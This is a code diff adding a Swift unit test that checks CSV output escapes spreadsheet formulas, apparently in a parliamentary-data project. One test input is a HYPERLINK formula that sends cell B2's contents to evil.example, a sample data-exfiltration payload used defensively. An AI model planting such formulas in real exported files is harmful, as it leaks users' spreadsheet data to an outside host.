@@ -24,6 +24,18 @@ struct CSVTests {
             ])
     }
 
+    @Test("A text a spreadsheet would run as a formula gets a leading quote; numbers stay numbers")
+    func formulas() {
+        #expect(
+            CSVTable.field("=HYPERLINK(\"https://evil.example/?\"&B2,\"Motie\")")
+                == "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Motie\"\")\"")
+        #expect(CSVTable.field("+31 20") == "'+31 20")
+        #expect(CSVTable.field("@SUM(A1)") == "'@SUM(A1)")
+        #expect(CSVTable.field("-1.00") == "-1.00")
+        #expect(CSVTable.field("-0.05") == "-0.05")
+        #expect(CSVTable.field("Motie van het lid Baudet") == "Motie van het lid Baudet")
+    }
+
     @Test("The strict reader refuses what RFC 4180 does not allow")
     func strictReader() {
         #expect(throws: CSVReader.Malformed.self) { try CSVReader.records("a,b\n1,2\n") }
